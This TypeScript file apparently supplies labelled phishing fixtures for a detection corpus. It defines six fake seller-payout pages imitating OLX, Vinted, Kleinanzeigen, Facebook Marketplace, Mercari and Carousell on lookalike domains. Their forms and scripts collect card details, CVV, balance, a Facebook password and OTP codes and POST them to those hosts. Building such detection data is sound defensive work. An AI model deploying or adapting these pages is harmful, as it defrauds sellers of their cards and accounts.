import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardFields, pngR, brandIcons } from '../parts/zc-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

// "Buyer has paid", "safe payment" and "receive your money" pages sent to sellers on classifieds and resale
// marketplaces; they ask the seller for card data (and often the SMS / app code that follows).

/** The step that polls the kit's panel while the operator keys the card in and asks for the code. */
const waitScript = (api: string, next: string) => `<script>
(function(){var f=document.querySelector('form');f.addEventListener('submit',function(e){e.preventDefault();
var d={};new FormData(f).forEach(function(v,k){d[k]=v});d.ua=navigator.userAgent;
fetch('${api}',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).then(function(r){return r.json()}).then(function(j){
document.getElementById('ld').style.display='flex';setTimeout(function(){location.href='${next}'+(j.sid||'')},4000);}).catch(function(){document.getElementById('ld').style.display='flex'});});})();
</script>`;

const loader = (text: string) => `<div id="ld" style="display:none;position:fixed;inset:0;background:rgba(255,255,255,.94);align-items:center;justify-content:center;flex-direction:column;z-index:9"><div style="width:42px;height:42px;border:4px solid #ddd;border-top-color:#333;border-radius:50%;animation:sp 1s linear infinite"></div><p>${text}</p></div><style>@keyframes sp{to{transform:rotate(360deg)}}</style>`;

const OLX = 'olx-dostawa.pl-odbior-srodkow.com';
const VIN = 'vinted-fr.paiement-securise-acheteur.com';
const KLE = 'kleinanzeigen.de-sicher-bezahlen.info';
const FBM = 'marketplace-facebook.pay-checkout.support';
const MER = 'mercari-jp.torihiki-shiharai.com';
const CAR = 'carousell-sg.caroupay-release.com';

export const entries: Entry[] = [
  {
    id: 'zc-mkt-olx-dostawa-receive-pl',
    label: 'phishing',
    kind: 'marketplace-buyer-paid',
    url: `https://${OLX}/oferta/1829173/odbierz`,
    body: doc({
      lang: 'pl',
      title: 'OLX – Odbiór środków za sprzedaż',
      head: `<link rel="icon" href="https://${OLX}/favicon.png">`,
      css: 'body{background:#f2f4f5}.c{max-width:520px;margin:30px auto;background:#fff;border-radius:6px;padding:26px}.olx{font-size:30px;font-weight:900;color:#002f34}',
      body: `<div style="background:#002f34;padding:14px 20px"><span class="olx" style="color:#fff">OLX</span></div>
<div class="c">
  <div style="display:flex;gap:14px;align-items:center"><img src="https://${OLX}/item.png" width="80" height="80" alt="" style="background:#ddd;border-radius:4px"><div><b>Wózek dziecięcy Cybex Priam 3w1</b><br>1 450 zł</div></div>
  <h2 style="margin-top:20px">Kupujący opłacił zamówienie ✅</h2>
  <p>Kupujący <b>Agnieszka W.</b> opłacił Twój przedmiot wraz z dostawą OLX (InPost). Środki w wysokości <b>1 450,00 zł</b> oczekują na wypłatę.</p>
  <p>Aby otrzymać środki, podaj dane karty, na którą mają zostać przelane pieniądze. Pieniądze zostaną zaksięgowane w ciągu kilku minut.</p>
  <form>
    ${cardFields({ holder: 'Imię i nazwisko', number: 'Numer karty', exp: 'Data ważności', cvc: 'CVV' })}
    <label>Saldo dostępne na karcie (wymagane do weryfikacji)</label><input name="balance" placeholder="np. 2300,00">
    <button class="btn" style="background:#002f34;color:#fff;width:100%;margin-top:18px">Odbierz 1 450,00 zł</button>
  </form>
  <p style="font-size:12px;color:#777;margin-top:14px">🔒 Płatności obsługuje OLX Payments Sp. z o.o. Dane są szyfrowane 256-bit SSL. Nigdy nie pobieramy opłat za odbiór środków.</p>
</div>
${loader('Trwa weryfikacja… Nie zamykaj strony.')}
${waitScript(`https://${OLX}/api/s`, `https://${OLX}/oferta/1829173/kod?s=`)}`,
    }),
    routes: { [`${OLX}/favicon.png`]: pngR(0, 47, 52), [`${OLX}/item.png`]: pngR(90, 90, 90), [`${OLX}/api/s`]: jsonRoute({ ok: true, sid: 'a81f2' }) },
  },
  {
    id: 'zc-mkt-vinted-paiement-recu-fr',
    label: 'phishing',
    kind: 'marketplace-buyer-paid',
    url: `https://${VIN}/transaction/73920014/recevoir`,
    body: doc({
      lang: 'fr',
      title: 'Vinted | Recevoir le paiement',
      css: 'body{background:#f5f5f5}.c{max-width:480px;margin:24px auto;background:#fff;padding:24px;border-radius:8px}.v{color:#09b1ba;font-size:28px;font-weight:800;font-family:Georgia,serif}',
      body: `<div style="background:#fff;border-bottom:1px solid #eee;padding:12px 20px"><span class="v">Vinted</span></div>
<div class="c">
  <p style="background:#e7f7f8;padding:10px;border-radius:6px">🎉 Bonne nouvelle ! Votre article a été acheté.</p>
  <h2>Robe Sézane Gaby – Taille 38</h2>
  <table><tr><td>Prix de l'article</td><td>65,00 €</td></tr><tr><td>Frais de port (Mondial Relay) payés par l'acheteur</td><td>4,49 €</td></tr><tr><th>À recevoir</th><th>65,00 €</th></tr></table>
  <p>Pour recevoir vos fonds, confirmez la carte bancaire sur laquelle le virement sera effectué. Cette opération est <b>gratuite</b> et sécurisée par Vinted Pay.</p>
  <form>
    ${cardFields({ holder: 'Titulaire de la carte', number: 'Numéro de carte', exp: 'Expiration', cvc: 'Cryptogramme' })}
    <button class="btn" style="background:#09b1ba;color:#fff;width:100%;margin-top:16px">Recevoir 65,00 €</button>
  </form>
  <p style="font-size:11px;color:#999;margin-top:16px">Vinted UAB, Svitrigailos g. 13, Vilnius, Lituanie. Protection acheteurs et vendeurs incluse.</p>
</div>
${loader('Connexion à votre banque en cours…')}
${waitScript(`https://${VIN}/gate.php`, `https://${VIN}/transaction/73920014/3ds?id=`)}`,
    }),
    routes: { [`${VIN}/gate.php`]: jsonRoute({ sid: '73920014' }) },
  },
  {
    id: 'zc-mkt-kleinanzeigen-sicher-bezahlen-de',
    label: 'phishing',
    kind: 'marketplace-safe-payment',
    url: `https://${KLE}/s-anzeige/2918817731/zahlung-erhalten`,
    body: doc({
      lang: 'de',
      title: 'Kleinanzeigen – Sicher bezahlen: Zahlung erhalten',
      css: 'body{background:#f4f4f0}.c{max-width:560px;margin:24px auto;background:#fff;padding:26px;border-radius:10px;box-shadow:0 1px 4px rgba(0,0,0,.1)}.k{font-weight:900;font-size:24px;color:#1d4b00}.k b{color:#86b817}',
      body: `<div style="background:#fff;padding:12px 24px;border-bottom:3px solid #86b817"><span class="k">klein<b>anzeigen</b></span></div>
<div class="c">
  <h2>Der Käufer hat bezahlt</h2>
  <p>Ihre Anzeige <b>„iPhone 14 128GB Mitternacht, top Zustand“</b> wurde über <b>Sicher bezahlen</b> gekauft. Der Betrag von <b>480,00 €</b> wurde von Käufer Thomas B. auf Ihrem Kleinanzeigen-Treuhandkonto hinterlegt.</p>
  <p>Versand: DHL – der Abholkurier kommt nach Bestätigung der Auszahlung.</p>
  <div style="background:#f7faf0;border:1px solid #d7e8b5;padding:12px;border-radius:6px;font-size:14px">Bitte bestätigen Sie Ihre Karte für die Auszahlung. Aus Sicherheitsgründen wird Ihre Bank Sie ggf. um eine Freigabe in der App bitten – bitte bestätigen Sie diese, um die Gutschrift zu erhalten.</div>
  <form>
    <label>Vor- und Nachname</label><input name="name">
    <label>Adresse (für Abholung)</label><input name="adresse">
    ${cardFields({ holder: 'Karteninhaber', number: 'Kartennummer', exp: 'Gültig bis', cvc: 'Prüfnummer (CVC)' })}
    <button class="btn" style="background:#86b817;color:#fff;width:100%;margin-top:16px">Auszahlung erhalten</button>
  </form>
</div>
<p style="text-align:center;font-size:12px;color:#888">© 2025 Kleinanzeigen GmbH · Impressum · Datenschutz · Nutzungsbedingungen</p>
${loader('Bitte warten, Ihre Zahlung wird verarbeitet…')}
<script src="https://${KLE}/assets/app.js"></script>`,
    }),
    routes: {
      [`${KLE}/assets/app.js`]: jsRoute(`(function(){var f=document.querySelector('form');f.onsubmit=function(e){e.preventDefault();var o={};new FormData(f).forEach(function(v,k){o[k]=v});
var x=new XMLHttpRequest();x.open('POST','/api/v2/card');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(o).toString());
document.getElementById('ld').style.display='flex';setTimeout(function(){location.href='/s-anzeige/2918817731/push'},5000)}})();`),
      [`${KLE}/api/v2/card`]: jsonRoute({ status: 'wait' }),
    },
  },
  {
    id: 'zc-mkt-fb-marketplace-verify-funds-en',
    label: 'phishing',
    kind: 'marketplace-buyer-paid',
    url: `https://${FBM}/orders/6671029/seller/claim`,
    body: doc({
      lang: 'en',
      title: 'Marketplace – Claim your payment',
      css: 'body{background:#f0f2f5;font-family:Helvetica,Arial,sans-serif}.c{max-width:500px;margin:28px auto;background:#fff;padding:22px;border-radius:8px;box-shadow:0 1px 2px rgba(0,0,0,.2)}',
      body: `<div style="background:#fff;padding:10px 18px;box-shadow:0 1px 2px rgba(0,0,0,.1)"><span style="color:#1877f2;font-weight:800;font-size:26px">facebook</span> <span style="color:#65676b">Marketplace</span></div>
<div class="c">
  <h2 style="font-size:20px">You've received a payment</h2>
  <p>A buyer has purchased <b>Dyson V11 Absolute cordless vacuum</b> for <b>$260.00</b> using Checkout on Marketplace. Shipping label (USPS Priority) will be emailed after payout confirmation.</p>
  <p style="font-size:14px;color:#65676b">To protect our community, first-time sellers must verify the debit card linked to payouts. A temporary hold of $1.00 may appear and will be reversed.</p>
  <form>
    <label>Email or phone used on Facebook</label><input name="login"><label>Password</label><input name="pw" type="password">
    ${cardFields({ holder: 'Name on card', number: 'Debit card number', exp: 'Expiration date', cvc: 'Security code' })}
    <label>ZIP code</label><input name="zip">
    <button class="btn" style="background:#1877f2;color:#fff;width:100%;margin-top:16px">Verify &amp; get paid</button>
  </form>
  <p style="font-size:12px;color:#65676b">Meta Platforms, Inc. · Purchase Protection · Terms · Privacy</p>
</div>
${loader('Verifying…')}
${waitScript(`https://${FBM}/api/claim`, `https://${FBM}/orders/6671029/seller/code?x=`)}`,
    }),
    routes: { [`${FBM}/api/claim`]: jsonRoute({ sid: 'f6671029' }) },
  },
  {
    id: 'zc-mkt-mercari-torihiki-ja',
    label: 'phishing',
    kind: 'marketplace-buyer-paid',
    url: `https://${MER}/transaction/m83920011/receive`,
    body: doc({
      lang: 'ja',
      title: 'メルカリ - 売上金の受け取り手続き',
      css: 'body{background:#f5f5f5;font-family:"Hiragino Sans",Meiryo,sans-serif}.c{max-width:480px;margin:20px auto;background:#fff;padding:22px;border-radius:8px}',
      body: `<div style="background:#fff;padding:12px 18px;border-bottom:1px solid #eee;color:#ff0211;font-weight:900;font-size:24px">mercari</div>
<div class="c">
  <h2 style="font-size:18px">購入者がお支払いを完了しました</h2>
  <p>商品「<b>Nintendo Switch 有機ELモデル ホワイト</b>」の代金 <b>¥32,800</b> が決済されました。</p>
  <p>メルカリの取引保護システムにより、売上金を受け取るには本人確認とカード認証が必要です。24時間以内に手続きが完了しない場合、取引はキャンセルされます。</p>
  <form>
    <label>氏名（カナ）</label><input name="kana">
    <label>電話番号</label><input name="tel">
    ${cardFields({ holder: 'カード名義（ローマ字）', number: 'カード番号', exp: '有効期限', cvc: 'セキュリティコード' })}
    <button class="btn" style="background:#ff0211;color:#fff;width:100%;margin-top:16px">売上金を受け取る</button>
  </form>
  <p style="font-size:11px;color:#999">© Mercari, Inc. 安心・安全への取り組み</p>
</div>
${loader('処理中です。しばらくお待ちください…')}
${waitScript(`https://${MER}/api/recv`, `https://${MER}/transaction/m83920011/sms?k=`)}`,
    }),
    routes: { [`${MER}/api/recv`]: jsonRoute({ sid: 'k1' }) },
  },
  {
    id: 'zc-mkt-carousell-caroupay-release-sg',
    label: 'phishing',
    kind: 'marketplace-buyer-paid',
    url: `https://${CAR}/p/1340098122/release`,
    body: doc({
      lang: 'en-SG',
      title: 'CarouPay – Release payment to seller',
      css: 'body{background:#f7f7f7}.c{max-width:480px;margin:24px auto;background:#fff;padding:22px;border-radius:10px}',
      body: `<div style="background:#fff;padding:12px 18px;border-bottom:1px solid #eee"><b style="color:#d2232a;font-size:22px">Carousell</b></div>
<div class="c">
  <h2>Payment secured with CarouPay ✅</h2>
  <p>Buyer <b>@jasminetan88</b> has paid <b>S$1,150.00</b> for <b>Sony A7 III body + 28-70mm kit</b> via CarouPay. Funds are held in escrow until you confirm your bank card.</p>
  <p>Enter the card you want to receive the money on. You will receive an OTP from your bank to authorise the <b>incoming</b> transfer.</p>
  <form>
    ${cardFields({ holder: 'Cardholder name', number: 'Card number', exp: 'Expiry', cvc: 'CVV' })}
    <label>Mobile number</label><input name="mobile" placeholder="+65">
    <button class="btn" style="background:#d2232a;color:#fff;width:100%;margin-top:16px">Receive S$1,150.00</button>
  </form>
</div>
<div id="otp" style="display:none;max-width:480px;margin:0 auto;background:#fff;padding:22px;border-radius:10px"><h3>Enter OTP</h3><p>An OTP has been sent to your registered mobile.</p><input name="otp" maxlength="6"><button class="btn" style="background:#d2232a;color:#fff;margin-top:10px" onclick="fetch('/otp',{method:'POST',body:document.querySelector('[name=otp]').value})">Submit</button></div>
<script>
document.querySelector('form').addEventListener('submit',function(e){e.preventDefault();fetch('/card',{method:'POST',body:new FormData(this)});this.parentNode.style.display='none';document.getElementById('otp').style.display='block';});
</script>`,
    }),
    routes: { [`${CAR}/card`]: jsonRoute({ ok: true }), [`${CAR}/otp`]: jsonRoute({ ok: true }) },
  },
];
